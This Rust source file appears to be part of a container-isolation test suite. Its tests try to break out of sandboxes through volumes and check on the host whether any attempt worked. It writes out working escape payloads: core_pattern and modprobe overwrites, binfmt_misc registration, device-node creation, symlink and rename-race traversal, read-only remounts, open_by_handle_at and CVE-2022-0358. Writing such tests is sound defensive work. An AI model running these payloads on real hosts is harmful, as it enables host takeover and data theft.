//! Volumes that reach into the host's kernel, and files in volumes that mean more to the host than they should.

use std::collections::BTreeSet;
use std::fs;
use std::io::Read;
use std::os::unix::fs::{FileTypeExt, MetadataExt, OpenOptionsExt};
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::Command;

use nix::libc::O_NONBLOCK;
use serde_json::Value;

use super::stage::{Said, Stage, volume};
use super::{Attempt, Program, Setup};
use crate::failure::{Explain, Outcome};
use crate::process;
use crate::shim::CALL_LIMIT;

/// Lists what is below a mount, and writes what would change the host's kernel.
const REACH: Program = Program::Shell(
    "cd /tree || exit 1; mount -o remount,bind,rw /tree 2>/dev/null; cd k 2>/dev/null && ls -A | sed 's/^/name:/'; \
     for f in sys/kernel/core_pattern sys/kernel/modprobe; do (echo \"|$UPPER/core\" >$f) 2>/dev/null && echo wrote $f; done; \
     for f in kernel/mm/ksm/run power/image_size kernel/uevent_helper; do (echo 1 >$f) 2>/dev/null && echo wrote $f; done; \
     (echo ':attack:M::\\x00attack::/bin/false:' >register) 2>/dev/null && echo registered; \
     mkdir attack 2>/dev/null && echo made; echo end",
);

/// A kernel's interface mounted below the volume, so that the volume itself is a good one.
const fn interface(name: &'static str, what: &'static str, setup: Setup) -> Attempt {
    Attempt::new(name, what, REACH).with(setup).judged(no_names)
}

/// The attempts of this theme.
pub(crate) const ATTEMPTS: &[Attempt] = &[
    interface("volume-proc", "a volume with a procfs of the host in it", |s, v| below(s, v, "proc")).breaks_runc().smoke(),
    interface("volume-sysfs", "the same with sysfs", |s, v| below(s, v, "sysfs")).breaks_runc(),
    interface("volume-cgroup2", "the same with cgroup2", |s, v| below(s, v, "cgroup2")).breaks_runc(),
    interface("volume-binfmt-misc", "the same with binfmt_misc", |s, v| below(s, v, "binfmt_misc")),
    interface("volume-configfs", "the same with configfs", |s, v| below(s, v, "configfs")),
    interface("volume-efivarfs", "the same with efivarfs", |s, v| below(s, v, "efivarfs")),
    interface("volume-pstore", "the same with pstore", |s, v| below(s, v, "pstore")),
    interface("volume-devtmpfs", "the same with devtmpfs", |s, v| below(s, v, "devtmpfs")).breaks_runc(),
    interface("volume-debugfs", "the same with debugfs", |s, v| below(s, v, "debugfs")),
    interface("volume-tracefs", "the same with tracefs", |s, v| below(s, v, "tracefs")),
    interface("volume-securityfs", "the same with securityfs", |s, v| below(s, v, "securityfs")),
    interface("volume-bpf", "the same with bpf", |s, v| below(s, v, "bpf")),
    interface("volume-mqueue", "the same with mqueue", |s, v| below(s, v, "mqueue")),
    interface("volume-resctrl", "the same with resctrl", |s, v| below(s, v, "resctrl")),
    interface("volume-fusectl", "the same with fusectl", |s, v| below(s, v, "fusectl")),
    Attempt::new(
        "volume-whole-host",
        "a hostPath of / with all that is mounted there: the host's kernel by its files",
        Program::Shell(
            "cd /tree; for f in proc/sys/kernel/core_pattern proc/sys/kernel/modprobe; do (echo \"|$UPPER/core\" >$f) 2>/dev/null; done; \
             (echo 1 >sys/kernel/mm/ksm/run) 2>/dev/null; mkdir sys/fs/cgroup/attack 2>/dev/null; \
             head -c 9 dev/kmsg; for p in $(ls proc | grep '^[0-9]'); do echo name:$p; done; kill -9 $NEIGHBOUR_PID 2>/dev/null; echo end",
        ),
    )
    .with(|_, spec| {
        volume(spec, Path::new("/"), "/tree", &["rbind", "rslave", "rw"]);
        Ok(())
    })
    .breaks_runc(),
    Attempt::new(
        "volume-listening-socket",
        "a volume with a socket that a program of the host listens on, as containerd's is",
        Program::Attack(&["connect", "/tree/socket"]),
    )
    .with(|stage, spec| {
        let directory = stage.share("socket")?;
        let listener = UnixListener::bind(directory.join("socket")).explain(|| "listen".into())?;
        listener.set_nonblocking(true).explain(|| "listen without waiting".into())?;
        stage.listener = Some(listener);
        volume(spec, &directory, "/tree", &["rbind", "rw"]);
        Ok(())
    })
    .judged(|stage, _| {
        let Some(listener) = &stage.listener else { return Ok(Vec::new()) };
        Ok(listener.accept().is_ok().then(|| "a program of the host was spoken to".to_owned()).into_iter().collect())
    })
    .breaks_runc()
    .smoke(),
    Attempt::new(
        "volume-fifo",
        "a volume with a FIFO that a program of the host reads from",
        Program::Shell("timeout 1 sh -c 'echo hello >/tree/fifo' && echo written"),
    )
    .with(|stage, spec| {
        let directory = stage.share("fifo")?;
        let path = directory.join("fifo");
        nix::unistd::mkfifo(&path, nix::sys::stat::Mode::S_IRWXU).explain(|| "make a FIFO".into())?;
        let options = fs::OpenOptions::new().read(true).write(true).custom_flags(O_NONBLOCK).open(&path);
        stage.fifo = Some(options.explain(|| "open the FIFO".into())?);
        volume(spec, &directory, "/tree", &["rbind", "rw"]);
        Ok(())
    })
    .judged(|stage, _| {
        let Some(mut fifo) = stage.fifo.as_ref() else { return Ok(Vec::new()) };
        let arrived = fifo.read(&mut [0]).is_ok();
        Ok(arrived.then(|| "a program of the host was sent something".to_owned()).into_iter().collect())
    })
    .breaks_runc(),
    Attempt::new(
        "volume-device-nodes",
        "device nodes of memory, disks and the kernel's log, made in a volume",
        Program::Shell(
            "cd /tree; mknod mem c 1 1 && echo made; mknod kmsg c 1 11; mknod disk b 254 0; mknod loop b 7 0; mknod kvm c 10 232; head -c 1 disk kmsg mem; echo end",
        ),
    )
    .with(plain)
    .judged(|stage, _| files(stage, |name, status| {
        let kind = status.file_type();
        (kind.is_char_device() || kind.is_block_device()).then(|| format!("device node {name} on the host"))
    }))
    .breaks_runc()
    .smoke(),
    Attempt::new(
        "volume-set-group-id",
        "a program of a group that its maker is no member of, made in a directory that gives its group on (CVE-2022-0358)",
        Program::Attack(&["set-group-id", "/tree"]),
    )
    .with(plain)
    .judged(|stage, _| {
        let directory = stage.shared("tree").join("group");
        let entries = fs::read_dir(&directory).explain(|| format!("list {}", directory.display()))?;
        let wrong = entries.flatten().filter(|entry| entry.metadata().is_ok_and(|status| status.mode() & 0o2000 != 0 && status.gid() == 50));
        Ok(wrong.map(|entry| format!("{} has the set-group-id bit", entry.path().display())).collect())
    }),
    Attempt::new(
        "volume-attributes",
        "extended attributes that steer the host's overlays, made in a volume",
        Program::Attack(&["attributes", "/tree/file"]),
    )
    .with(plain)
    .judged(|stage, _| {
        let names = attributes(stage, &stage.shared("tree").join("file"))?;
        Ok(names.into_iter().filter(|name| name.starts_with("trusted.")).map(|name| format!("{name} on the host's file")).collect())
    })
    .breaks_runc(),
    Attempt::new(
        "volume-symlinks",
        "symbolic links out of a volume, and .. above it",
        Program::Shell(
            "cd /tree; ln -s $OUTSIDE/secret a; ln -s ../../../../../../../..$OUTSIDE/secret b; ln -s / c; ln -s /proc/self/root d; mkdir -p x/y; mv x/y . ; \
             cat a b c$OUTSIDE/secret d$OUTSIDE/secret ../../../../..$OUTSIDE/secret /tree/..$OUTSIDE/secret x/../../..$OUTSIDE/secret; echo end",
        ),
    )
    .with(plain),
    Attempt::new(
        "volume-rename-race",
        "a directory of a volume exchanged for a link again and again while files are opened through it",
        Program::Shell(
            "cd /tree; mkdir -p real$OUTSIDE; echo mine >real$OUTSIDE/secret; ln -s / link; \
             (i=0; while [ $i -lt 150 ]; do mv real way; mv way real; mv link way; mv way link; i=$((i+1)); done) & \
             i=0; while [ $i -lt 60 ]; do cat way$OUTSIDE/secret; i=$((i+1)); done 2>/dev/null | sort | uniq -c; wait",
        ),
    )
    .with(plain),
    Attempt::new(
        "volume-read-only",
        "writing to a read-only volume: directly, mounted anew, by links and renames into a writable one, by the shared file system itself",
        Program::Shell(
            "w() { (echo changed >$1) 2>/dev/null && echo wrote $1; }; w /ro/file; mount -o remount,rw /ro 2>/dev/null; mount -o remount,bind,rw /ro 2>/dev/null; w /ro/file; \
             ln /ro/file /tree/file && w /tree/file; mv /ro/file /tree/moved; mkdir -p /all; mount -t virtiofs shared /all 2>/dev/null && \
             find /all -name file -o -name moved | while read f; do w $f; ln $f /all/linked; mv $f /all/away; done; chmod 777 /ro/file; chown 1 /ro/file; \
             mkdir /below; mount --rbind /ro /below 2>/dev/null; mount -o remount,bind,rw /below 2>/dev/null; w /below/file; echo end",
        ),
    )
    .with(|stage, spec| {
        plain(stage, spec)?;
        let directory = stage.share("ro")?;
        fs::write(directory.join("file"), "kept").explain(|| "a file to keep".into())?;
        // As a volume of the CRI's: what is read-only is the mount, on a file system that is writable.
        volume(spec, &directory, "/ro", &["rbind", "ro"]);
        Ok(())
    })
    .judged(|stage, _| {
        let file = stage.shared("ro").join("file");
        let (text, status) = (fs::read_to_string(&file).unwrap_or_default(), fs::metadata(&file).map(|status| (status.uid(), status.mode() & 0o777, status.nlink())).ok());
        let kept = text == "kept" && status.is_some_and(|(uid, mode, links)| uid == 0 && mode != 0o777 && links == 1);
        Ok((!kept).then(|| format!("the read-only file is {text:?}, {status:?}")).into_iter().collect())
    })
    .breaks_runc(),
    Attempt::new(
        "volume-handles",
        "the file system that a volume is on, from its root, by file handles (open_by_handle_at)",
        Program::Attack(&["handles", "/tree"]),
    )
    .with(|stage, spec| {
        let disk = stage.disk()?;
        let directory = disk.join("given");
        fs::create_dir_all(&directory).explain(|| "make a directory on the disk".into())?;
        fs::write(disk.join("not-given"), "").explain(|| "write to the disk".into())?;
        volume(spec, &directory, "/tree", &["rbind", "rw"]);
        Ok(())
    })
    .judged(|_, said| Ok(said.stdout.contains("not-given").then(|| "saw what is beside the volume".to_owned()).into_iter().collect()))
    .breaks_runc(),
];

/// A writable volume.
fn plain(stage: &mut Stage, spec: &mut Value) -> Outcome {
    let directory = stage.share("tree")?;
    volume(spec, &directory, "/tree", &["rbind", "rw"]);
    Ok(())
}

fn below(stage: &mut Stage, spec: &mut Value, kind: &str) -> Outcome {
    let directory = stage.share("tree")?;
    let target = directory.join("k");
    if let Err(reason) = stage.mount(&["-t", kind, "none"], &target) {
        stage.absent = Some(format!("no {kind} on this node ({reason})"));
        return Ok(());
    }
    volume(spec, &directory, "/tree", &["rbind", "rw"]);
    Ok(())
}

/// Names that are in the host's interface must not be among what the program lists.
fn no_names(stage: &Stage, said: &Said) -> Outcome<Vec<String>> {
    let directory = stage.shared("tree").join("k");
    // Process ids come and go; the others are enough.
    let names: BTreeSet<String> = fs::read_dir(&directory)
        .explain(|| format!("list {}", directory.display()))?
        .flatten()
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .filter(|name| !name.bytes().all(|byte| byte.is_ascii_digit()))
        .collect();
    let seen = said
        .stdout
        .lines()
        .filter_map(|line| line.strip_prefix("name:"))
        .filter(|name| names.contains(*name))
        .count();
    let made = fs::remove_dir(directory.join("attack")).is_ok();
    let mut found = Vec::new();
    if seen > 0 {
        found.push(format!("{seen} names of the host's seen"));
    }
    if made {
        found.push("a directory was made in it".into());
    }
    Ok(found)
}

/// Looks at each file that the program made in the volume, on the host.
fn files(stage: &Stage, wrong: impl Fn(&str, &fs::Metadata) -> Option<String>) -> Outcome<Vec<String>> {
    let directory = stage.shared("tree");
    let entries = fs::read_dir(&directory).explain(|| format!("list {}", directory.display()))?;
    let looked = entries.flatten().filter_map(|entry| {
        let status = fs::symlink_metadata(entry.path()).ok()?;
        wrong(&entry.file_name().to_string_lossy(), &status)
    });
    Ok(looked.collect())
}

/// Names of a file's extended attributes, on the host.
fn attributes(stage: &Stage, path: &Path) -> Outcome<Vec<String>> {
    let mut command = Command::new(stage.layout.rootfs("attack").join("bin/attack"));
    let output = process::run(command.arg("list-attributes").arg(path), b"", CALL_LIMIT)?;
    Ok(output.stdout.lines().map(str::to_owned).collect())
}
